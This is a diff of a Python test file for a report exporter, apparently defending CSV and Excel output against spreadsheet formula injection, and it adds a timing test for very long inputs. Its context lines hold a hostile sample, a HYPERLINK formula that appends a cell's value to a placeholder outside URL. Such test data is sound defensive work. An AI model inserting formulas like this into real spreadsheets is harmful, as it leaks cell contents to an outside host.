@@ -2,6 +2,7 @@
 
 import csv
 import io
+import time
 
 import openpyxl
 import pandas as pd
@@ -10,8 +11,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from trustgap.report.disclosure import Mask, read_all, read_back
-from trustgap.report.spreadsheets import marked, unmarked
 from trustgap.report.wording import Words
+from trustgap.survey.spreadsheets import marked, unmarked
 
 HOSTILE = {
     "a link": '=HYPERLINK("http://a.example/?"&A1,"click")',
@@ -95,6 +96,14 @@ def test_no_cell_is_a_formula_where_a_spreadsheet_splits_at_another_sign(text, s
     cells = cells_of(marked(rows).to_csv(index=False, lineterminator="\n"), separator=separator)
 
     assert not [cell for cell in cells if cell.strip(" '\"")[:1] in set("=+-@|＝") and cell[0] not in "'\""]
+
+
+def test_a_long_text_made_to_be_slow_is_marked_in_no_time():
+    """B61. A comment may be as long as somebody likes."""
+    begun = time.process_time()
+    for piece in ("\n", " ", "'", ";", "\r\u2028", "\n'", "; "):
+        marked(pd.DataFrame({"text": [piece * 50_000]}))
+    assert time.process_time() - begun < 2
 
 
 def test_a_workbook_made_of_a_table_holds_no_formula(tmp_path):
